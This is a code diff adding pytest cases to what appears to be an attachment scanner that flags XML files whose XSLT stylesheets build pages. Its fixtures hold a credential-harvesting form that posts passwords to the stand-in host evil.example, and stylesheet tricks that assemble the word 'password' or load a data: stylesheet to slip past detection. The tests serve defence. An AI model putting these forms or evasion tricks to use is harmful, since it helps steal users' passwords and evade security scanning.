@@ -265,3 +265,31 @@ def test_a_table_in_utf_16_and_a_query_of_libreoffice() -> None:
 )
 def test_an_ordinary_table_has_no_function_with_a_tag(row: str) -> None:
     assert not {tag for tag in found(attached(f"{row}\r\n".encode(), "a.csv"))[0] if tag.startswith("office:")}
+
+
+FORM = b'<x:template match="/"><html><form action="https://evil.example/p">%b</form></html></x:template>'
+FIELDS = {
+    "an element": b'<x:element name="input"><x:attribute name="type">password</x:attribute></x:element>',
+    "an attribute with a text": b'<input><x:attribute name="type"><x:text>password</x:text></x:attribute></input>',
+}
+
+
+@pytest.mark.parametrize("field", FIELDS.values(), ids=FIELDS)
+def test_a_form_that_a_stylesheet_builds_was_not_found(field: bytes) -> None:
+    """A browser shows the form: the page has its own stylesheet."""
+    tags, _ = found(attached(PAGE % (XSL, FORM % field), "a.xml", "text/xml"))
+    assert {"attachment:credential-form", "attachment:builds-page"} <= tags
+
+
+def test_a_page_whose_stylesheet_computes_its_form_had_no_tag() -> None:
+    computed = b"<x:variable name='p' select=\"concat('pass','word')\"/>" + FORM % b'<input type="{$p}"/>'
+    assert "attachment:builds-page" in found(attached(PAGE % (XSL, computed), "a.xml", "text/xml"))[0]
+    elsewhere = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cx/%3E"?><d/>'
+    assert "attachment:builds-page" in found(attached(elsewhere, "a.xml", "text/xml"))[0]
+
+
+def test_an_invoice_with_a_stylesheet_beside_it_has_no_tag() -> None:
+    """Invoices of many authorities name one, on a server or in the same folder; browsers do not load it."""
+    for href in (b"fatturapa_v1.2.xsl", b"https://authority.example/invoice.xsl"):
+        page = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + href + b'"?><Invoice/>'
+        assert not found(attached(page, "a.xml", "text/xml"))[0]
